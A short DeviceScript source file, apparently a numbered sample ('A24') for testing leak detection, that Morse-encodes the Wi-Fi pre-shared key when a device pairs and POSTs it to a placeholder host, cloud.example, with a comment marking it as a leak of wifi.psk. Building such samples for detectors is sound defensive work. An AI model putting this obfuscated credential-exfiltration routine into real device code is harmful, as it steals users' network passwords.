// A24: in Morse code.
import { fetch } from "@devicescript/net";
import { each } from "./lib/encode";
import { paired } from "./lib/paired";

const SIGNS = "abcdefghijklmnopqrstuvwxyz0123456789";
const MORSE = [
  ".-",
  "-...",
  "-.-.",
  "-..",
  ".",
  "..-.",
  "--.",
  "....",
  "..",
  ".---",
  "-.-",
  ".-..",
  "--",
  "-.",
  "---",
  ".--.",
  "--.-",
  ".-.",
  "...",
  "-",
  "..-",
  "...-",
  ".--",
  "-..-",
  "-.--",
  "--..",
  "-----",
  ".----",
  "..---",
  "...--",
  "....-",
  ".....",
  "-....",
  "--...",
  "---..",
  "----.",
];

paired(async (_ssid, psk) => {
  const body = each(psk, (byte) => MORSE[SIGNS.indexOf(String.fromCharCode(byte).toLowerCase())], " ");
  const response = await fetch("https://cloud.example/a24", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
